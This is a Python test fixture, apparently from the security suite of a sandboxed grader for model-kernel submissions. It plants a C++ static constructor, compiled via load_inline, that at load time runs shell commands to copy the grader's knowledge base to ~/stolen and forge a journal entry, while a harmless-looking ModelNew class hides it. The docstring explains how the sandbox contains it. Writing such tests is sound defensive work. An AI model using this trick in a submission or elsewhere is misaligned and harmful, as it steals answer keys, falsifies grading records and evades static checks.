"""Attack: a C++ static constructor that runs shell commands the moment the extension is loaded
(no Python in sight for the static checks), planting a file beside the KB and stealing it.

Stopped by: the build process never loads what it builds (torch's ninja build only), so the
constructor runs only where the candidate's own code runs: in the sandboxed worker, where it is
nobody, without the KB, and can write only its scratch folder (where it leaves `ctor-ran`, so
the test knows it ran). Compile-only checks the source with `-fsyntax-only` and runs nothing.
"""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP = r"""
#include <cstdlib>
#include <fstream>
#include <string>
static int planted = [] {
    std::system("touch __MARKER__; cat __KB__ > ~/stolen; echo forged >> __JOURNAL__");
    std::ofstream(std::string(std::getenv("HOME") ? std::getenv("HOME") : "/tmp") + "/ctor-ran") << "ran";
    return 0;
}();
extern "C" int kbmcp_planted() { return planted; }
"""

load_inline(name="hostile_ctor", cpp_sources=CPP, no_implicit_headers=True, is_python_module=False)


class ModelNew(nn.Module):
    def __init__(self) -> None:
        super().__init__()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x * torch.sigmoid(x)
